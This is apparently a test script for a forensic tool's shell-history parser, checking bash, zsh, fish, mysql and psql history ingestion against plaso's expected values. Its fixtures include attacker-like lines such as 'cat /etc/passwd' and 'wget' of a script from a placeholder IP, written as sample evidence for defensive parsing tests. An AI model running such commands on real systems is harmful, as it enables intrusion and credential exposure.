#!/usr/bin/env bash
# Shell histories (shell_history): plaso's test files with the values its own tests expect
# (ORACLE_plaso_tests.json), plus zsh/fish/bash/mysql files named like they are on a host.
source "$(dirname "$0")/../lib.sh"
P=$CORPUS/plaso
[ -f "$P/ORACLE_plaso_tests.json" ] || { skip plaso_corpus "no $P"; exit 0; }
C=$TMP/case
# The oracle: expected event count and the checked (index, command, time) of each file.
python3 - "$P" > "$TMP/oracle.txt" <<'PY'
import json, sys
for t in json.load(open(sys.argv[1] + "/ORACLE_plaso_tests.json")):
    sp = t.get("staged_path") or ""
    name = sp.rsplit("/", 1)[-1]
    if name not in ("bash_history", "bash_history_desync", "zsh_extended_history.txt", "fish_history"):
        continue
    print("count\t%s\t%d" % (name, t["expected_number_of_event_data"]))
    for c in t["checks"]:
        v = c["expected_event_values"]
        tm = v.get("written_time") or v.get("last_written_time")
        print("check\t%s\t%d\t%s\t%s" % (name, c["event_data_index"], v["command"], tm.replace("+00:00", "")))
PY
expect_eq oracle_read "$(grep -c '^count' "$TMP/oracle.txt")" "4"
for f in bash_history bash_history_desync zsh_extended_history.txt fish_history; do
  expect_rc "ingest_$f" 0 "$KS" ingest -q "$C" "$P/test_data/$f"
done
while IFS=$'\t' read -r kind name a b c; do
  # members are matched by file name: the oracle's index is the record order in the file
  where="evidence_id=(SELECT id FROM evidence WHERE path LIKE '%/$name')"
  if [ "$kind" = count ]; then
    expect_eq "count_$name" "$(q "$C" "SELECT count(*) FROM shell_history WHERE $where")" "$a"
  else
    # plaso joins the lines of a multi-line command with spaces; we keep the newlines
    got=$(q "$C" "SELECT replace(command, char(10), ' ') || '|' || substr(time,1,19) FROM shell_history WHERE $where AND seq=$((a + 1))")
    expect_eq "command_${name}_$a" "$got" "$b|$c"
  fi
done < "$TMP/oracle.txt"
expect_eq desync_first_command_has_no_time \
  "$(q "$C" "SELECT coalesce(time,'none') || ' ' || command FROM shell_history WHERE seq=1 AND evidence_id=(SELECT id FROM evidence WHERE path LIKE '%desync')")" \
  "none /sbin/reboot"
expect_eq zsh_multiline_kept "$(q "$C" "SELECT count(*) FROM shell_history WHERE shell='zsh' AND command LIKE '%' || char(10) || '& touch /tmp/afile'")" "1"
expect_eq fish_paths "$(q "$C" "SELECT paths FROM shell_history WHERE shell='fish' AND command='cd plaso'")" "plaso"
expect_eq events_are_shell_command "$(q "$C" "SELECT count(*) FROM events WHERE action='shell_command'")" "23"

# Files named as on a host: user from the home directory, shell from the name.
H=$TMP/host
mkdir -p "$H/home/alice" "$H/root"
printf 'ls -la\ncat /etc/passwd\n\nwget http://203.0.113.9/a.sh\n' > "$H/home/alice/.bash_history"
printf 'select\\040user,\\040host\\040from\\040mysql.user;\nDROP\\040TABLE\\040t;\n' > "$H/root/.mysql_history"
printf '_HiStOrY_V2_\n\\\\dt\nselect\\0401;\n' > "$H/root/.psql_history"
C2=$TMP/case2
expect_rc ingest_named_histories 0 "$KS" ingest -q "$C2" "$H/home/alice/.bash_history" "$H/root/.mysql_history" "$H/root/.psql_history"
expect_eq plain_bash_user_and_order "$(q "$C2" "SELECT group_concat(user || ':' || seq || ':' || coalesce(time,'-'), ' ') FROM shell_history WHERE shell='bash'")" \
  "alice:1:- alice:2:- alice:3:-"
expect_eq plain_bash_line_kept "$(q "$C2" "SELECT line FROM events WHERE target LIKE 'wget%'")" "4"
expect_eq mysql_octal_escapes "$(q "$C2" "SELECT command FROM shell_history WHERE shell='mysql' AND seq=1")" "select user, host from mysql.user;"
expect_eq mysql_user_root "$(q "$C2" "SELECT DISTINCT actor FROM events WHERE message='mysql'")" "root"
expect_eq psql_header_skipped "$(q "$C2" "SELECT group_concat(command, '|') FROM shell_history WHERE shell='psql'")" '\dt|select 1;'

# A timestamp too large for nanoseconds (found by fuzzing: signed overflow) is a timestamp
# line without a usable time, for bash (#epoch) and zsh (": epoch:0;") alike.
mkdir -p "$H/home/bob"
printf '#99999999999999999\nid\n#1700000000\nuname -a\n' > "$H/home/bob/.bash_history"
printf ': 99999999999999999:0;whoami\n: 1700000000:0;ls\n' > "$H/home/bob/.zsh_history"
C3=$TMP/case3
expect_rc ingest_huge_epochs 0 "$KS" ingest -q "$C3" "$H/home/bob/.bash_history" "$H/home/bob/.zsh_history"
expect_eq huge_epoch_no_time "$(q "$C3" "SELECT group_concat(shell || ':' || command || ':' || coalesce(time, '-'), ' ') FROM (SELECT * FROM shell_history ORDER BY shell, seq)")" \
  "bash:id:- bash:uname -a:2023-11-14T22:13:20.000000000Z zsh:whoami:- zsh:ls:2023-11-14T22:13:20.000000000Z"
